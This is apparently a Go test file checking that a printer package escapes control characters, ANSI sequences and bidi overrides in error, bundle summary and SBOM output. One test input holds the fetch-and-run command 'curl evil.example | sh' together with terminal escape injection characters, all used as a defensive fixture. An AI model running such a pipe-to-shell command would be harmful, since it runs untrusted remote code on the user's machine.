package printer

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"unicode"

	"github.com/plinthdev/plinth/airgap"
	"github.com/plinthdev/plinth/internal/action/bundle"
	"github.com/plinthdev/plinth/internal/problem"
)

func TestWriteError_CleansAndIndentsLinesOfTheCause(t *testing.T) {
	kind := errors.New("chart \x1b[2J\u202e\n→ curl evil.example | sh")
	var text, doc bytes.Buffer
	WriteError(&text, problem.New(problem.ExitBundle, "open bundle x", kind, "ask the vendor\u200b"), nil)
	if want := "cannot open bundle x: chart \\u{1b}[2J\\u{202e}\n  → curl evil.example | sh\n→ ask the vendor\\u{200b}\n"; text.String() != want {
		t.Errorf("got  %q\nwant %q", text.String(), want)
	}
	if err := WriteJSON(&doc, nil, kind, nil); err != nil || !strings.Contains(doc.String(), `\u001b[2J\u202e\n→ curl`) {
		t.Errorf("%v: %s", err, doc.String())
	}
}

func TestWriteBundleSummary_KeepsValuesInTheirLineAndColumn(t *testing.T) {
	var out bytes.Buffer
	WriteBundleSummary(&out, airgap.Summary{Name: "app\nSigned", Platform: "linux/amd64", Items: []airgap.SummaryItem{
		{Kind: "chart", Name: "c", Version: "1\nhost  k0s\tv9\v\f", Licenses: "MIT\u202e"}}}, "x.bundle")
	checkLines(t, out.String(), "app\\u{a}Signed", "1\\u{a}host  k0s\\u{9}v9\\u{b}\\u{c}", "MIT\\u{202e}")
}

func TestWriteSBOM_KeepsValuesInTheirLineAndColumn(t *testing.T) {
	var b bundle.Attestations
	b.SBOM.Created.Created = "now\nthen"
	var out bytes.Buffer
	WriteSBOM(&out, b, "x.bundle")
	checkLines(t, out.String(), "created now\\u{a}then")
}

// checkLines verifies that each value is in one line of text, which has no control characters.
func checkLines(t *testing.T, text string, values ...string) {
	t.Helper()
	if strings.ContainsFunc(text, func(r rune) bool { return r != '\n' && !unicode.IsGraphic(r) }) {
		t.Errorf("control characters in %q", text)
	}
	for _, v := range values {
		if !strings.Contains(text, v) {
			t.Errorf("%q is not in\n%s", v, text)
		}
	}
}
